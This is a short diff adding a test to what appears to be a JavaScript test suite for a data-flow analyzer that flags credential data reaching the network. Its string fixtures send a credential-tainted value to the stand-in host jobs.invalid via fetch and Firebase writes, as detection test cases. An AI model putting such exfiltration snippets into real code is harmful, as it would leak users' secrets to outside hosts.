@@ -41,4 +41,12 @@ describe('clients of services', () => {
     const code = `const { Octokit } = require('@octokit/rest'); const o = new Octokit({}); o.repos.listForUser({ username: s.length });`;
     assert.deepEqual(flowsOf(code), []);
   });
+
+  it('are told by the client that a reference was made with', () => {
+    const code = `const { initializeApp } = require('firebase/app'), { getDatabase, ref, onValue } = require('firebase/database');
+      const db = getDatabase(initializeApp({ databaseURL: 'https://jobs.invalid' })); onValue(ref(db, 'a'), (v) => fetch('https://jobs.invalid/' + s));`;
+    assert.ok(flowsOf(code).includes('credential-file>network@jobs.invalid'), flowsOf(code).join());
+    const set = `const { getDatabase, ref, set } = require('firebase/database'); set(ref(getDatabase({ databaseURL: 'https://jobs.invalid' }), 'a'), s);`;
+    assert.deepEqual(flowsOf(set), ['credential-file>network@jobs.invalid']);
+  });
 });
